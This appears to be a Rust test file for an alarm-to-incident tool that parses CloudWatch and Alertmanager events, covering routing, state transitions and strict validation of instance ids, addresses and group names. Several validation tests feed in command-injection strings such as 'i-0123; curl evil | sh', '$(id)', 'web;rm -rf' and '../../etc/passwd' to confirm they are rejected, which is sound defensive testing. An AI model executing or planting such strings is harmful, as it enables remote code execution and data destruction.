use super::*;
use crate::alert::parse_event;

fn incident(src: &str) -> Result<Incident, InputError> {
    Incident::from_alert(parse_event(src.as_bytes())?.remove(0))
}

const ALARM: &str = include_str!("../../../events/high-cpu-alarm.json");

#[test]
fn high_cpu_alarm_becomes_a_firing_high_cpu_incident() {
    let i = incident(ALARM).unwrap();
    assert_eq!(i.kind, IncidentKind::HighCpu);
    assert_eq!(i.transition, Transition::Firing);
    assert_eq!(i.instance().unwrap().as_str(), "i-0123456789abcdef0");
    assert!(i.id.starts_with("inc-") && i.id.len() == 20, "{}", i.id);
}

#[test]
fn same_occurrence_same_id_new_occurrence_new_id() {
    let a = incident(ALARM).unwrap();
    assert_eq!(a.id, incident(ALARM).unwrap().id);
    assert_eq!(
        a.id,
        incident(include_str!("../../../events/sns-high-cpu-alarm.json"))
            .unwrap()
            .id
    );
    let later = ALARM.replace(
        "2026-11-25T02:04:12.152+0000",
        "2026-11-25T05:00:00.000+0000",
    );
    assert_ne!(a.id, incident(&later).unwrap().id);
}

#[test]
fn transitions() {
    use AlarmState::*;
    assert_eq!(Transition::of(Alarm, Some(Ok)), Transition::Firing);
    assert_eq!(Transition::of(Alarm, None), Transition::Firing);
    assert_eq!(
        Transition::of(Alarm, Some(InsufficientData)),
        Transition::Firing
    );
    assert_eq!(Transition::of(Ok, Some(Alarm)), Transition::Resolved);
    assert!(matches!(
        Transition::of(Alarm, Some(Alarm)),
        Transition::Ignored(_)
    ));
    assert!(matches!(
        Transition::of(Ok, Some(InsufficientData)),
        Transition::Ignored(_)
    ));
    assert!(matches!(
        Transition::of(InsufficientData, Some(Ok)),
        Transition::Ignored(_)
    ));
}

#[test]
fn hostile_instance_id_is_rejected_with_its_path() {
    let err = incident(&ALARM.replace("i-0123456789abcdef0", "i-0123; curl evil | sh"))
        .unwrap_err()
        .to_string();
    assert!(
        err.contains("detail.configuration.metrics[0].metricStat.metric.dimensions.InstanceId"),
        "{err}"
    );
    assert!(err.contains("not an EC2 instance id"), "{err}");
}

#[test]
fn routing_table() {
    for (name, kind) in [
        ("CPUUtilization", IncidentKind::HighCpu),
        ("HighCPUUsage", IncidentKind::HighCpu),
        ("disk_used_percent", IncidentKind::DiskFull),
        ("DiskSpaceLow", IncidentKind::DiskFull),
        ("NodeFilesystemAlmostOutOfSpace", IncidentKind::DiskFull),
        ("mem_used_percent", IncidentKind::MemoryPressure),
        ("HighMemoryUsage", IncidentKind::MemoryPressure),
        ("StatusCheckFailed", IncidentKind::ServiceDown),
        ("StatusCheckFailed_Instance", IncidentKind::ServiceDown),
        ("ServiceDown", IncidentKind::ServiceDown),
        ("NetworkIn", IncidentKind::Unrouted),
    ] {
        assert_eq!(IncidentKind::route(name), kind, "{name}");
    }
}

#[test]
fn routes_from_configuration_override_defaults() {
    let alert = parse_event(ALARM.as_bytes()).unwrap().remove(0);
    let mut routes = Routes::new();
    routes.insert("CPUUtilization".into(), IncidentKind::Unrouted);
    assert_eq!(
        Incident::routed(alert.clone(), &routes).unwrap().kind,
        IncidentKind::Unrouted
    );
    routes.insert("web-high-cpu".into(), IncidentKind::HighCpu);
    assert_eq!(
        Incident::routed(alert, &routes).unwrap().kind,
        IncidentKind::HighCpu,
        "alarm name wins"
    );
}

#[test]
fn resources_of_each_shape() {
    let g = incident(include_str!("../../../events/group-high-cpu-alarm.json")).unwrap();
    assert_eq!(
        g.resource,
        Resource::Group(GroupName::parse("t", "web-asg").unwrap())
    );
    let c = incident(include_str!("../../../events/composite-alarm.json")).unwrap();
    assert_eq!(
        (c.kind, &c.resource),
        (IncidentKind::Unrouted, &Resource::None)
    );
    let am = incident(include_str!("../../../events/alertmanager-high-cpu.json")).unwrap();
    assert_eq!(am.kind, IncidentKind::HighCpu);
    assert_eq!(
        am.resource,
        Resource::Address(PrivateAddress::Ip("10.0.1.5".parse().unwrap()))
    );
    let with_id = include_str!("../../../events/alertmanager-high-cpu.json").replace(
        "\"job\": \"node-exporter\"",
        "\"job\": \"node-exporter\", \"instance_id\": \"i-0123456789abcdef0\"",
    );
    assert!(matches!(
        incident(&with_id).unwrap().resource,
        Resource::Instance(_)
    ));
}

#[test]
fn instance_labels() {
    let ok = [
        ("10.0.1.5:9100", "10.0.1.5"),
        ("10.0.1.5", "10.0.1.5"),
        ("[fd00::5]:9100", "fd00::5"),
        ("ip-10-0-1-5.ec2.internal:9100", "ip-10-0-1-5.ec2.internal"),
        ("IP-10-0-1-5.EC2.INTERNAL", "ip-10-0-1-5.ec2.internal"),
    ];
    for (label, want) in ok {
        assert_eq!(
            PrivateAddress::from_instance_label("f", label)
                .unwrap()
                .to_string(),
            want,
            "{label}"
        );
    }
    for bad in [
        "",
        ":9100",
        "10.0.1.5:99999",
        "10.0.1.5:http",
        "a;b:9100",
        "$(id):9100",
        "../../etc/passwd",
        "host name:1",
        "[fd00::5",
        "-x.internal",
        "a..b",
    ] {
        let e = PrivateAddress::from_instance_label("alerts[0].labels.instance", bad)
            .unwrap_err()
            .to_string();
        assert!(e.contains("alerts[0].labels.instance"), "{e}");
    }
}

#[test]
fn routing_needs_an_ec2_namespace_and_an_ec2_resource() {
    // CPUUtilization of an RDS database is not routed to the EC2 playbook.
    let rds = ALARM.replace("AWS/EC2", "AWS/RDS").replace(
        "\"InstanceId\": \"i-0123456789abcdef0\"",
        "\"DBInstanceIdentifier\": \"orders\"",
    );
    let i = incident(&rds).unwrap();
    assert_eq!(
        (i.kind, &i.resource),
        (IncidentKind::Unrouted, &Resource::None)
    );
    // An EC2 alarm routed to a playbook but naming no EC2 resource is refused.
    let by_image = ALARM.replace(
        "\"InstanceId\": \"i-0123456789abcdef0\"",
        "\"ImageId\": \"ami-0abc\"",
    );
    let e = incident(&by_image).unwrap_err().to_string();
    assert!(
        e.contains("metricStat.metric.dimensions")
            && e.contains("ImageId")
            && e.contains("names no EC2 resource"),
        "{e}"
    );
    // An explicit route overrides the namespace rule.
    let alert = parse_event(rds.as_bytes()).unwrap().remove(0);
    let routes = Routes::from([("orders-cpu".to_owned(), IncidentKind::HighCpu)]);
    assert_eq!(
        Incident::routed(alert.clone(), &routes).unwrap().kind,
        IncidentKind::Unrouted,
        "another alarm's route"
    );
    let routes = Routes::from([("web-high-cpu".to_owned(), IncidentKind::HighCpu)]);
    assert!(
        Incident::routed(alert, &routes).is_err(),
        "routed, but an RDS dimension is no EC2 resource"
    );
}

#[test]
fn composite_alarm_remediates_only_when_configured() {
    let src = include_str!("../../../events/composite-alarm.json");
    let alert = parse_event(src.as_bytes()).unwrap().remove(0);
    let routes = Routes::from([("web-service-degraded".to_owned(), IncidentKind::HighCpu)]);
    // Routed, but its tags name no resource: nothing to act on (the plan says so).
    assert!(Incident::routed(alert, &routes).is_ok_and(|i| i.resource == Resource::None));
    let tagged = src.replace(
        "\"team\": \"web\"",
        "\"team\": \"web\", \"AutoScalingGroupName\": \"web-asg\"",
    );
    let alert = parse_event(tagged.as_bytes()).unwrap().remove(0);
    let i = Incident::routed(alert, &routes).unwrap();
    assert_eq!(i.kind, IncidentKind::HighCpu);
    assert_eq!(
        i.resource,
        Resource::Group(GroupName::parse("t", "web-asg").unwrap())
    );
}

#[test]
fn event_group_names_are_strict() {
    let src = include_str!("../../../events/group-high-cpu-alarm.json");
    for bad in ["web;rm -rf", "a`id`", "../web", "web$(x)", "web|x"] {
        let e = incident(&src.replace("\"web-asg\"", &format!("{bad:?}")))
            .unwrap_err()
            .to_string();
        assert!(e.contains("dimensions.AutoScalingGroupName"), "{e}");
    }
}
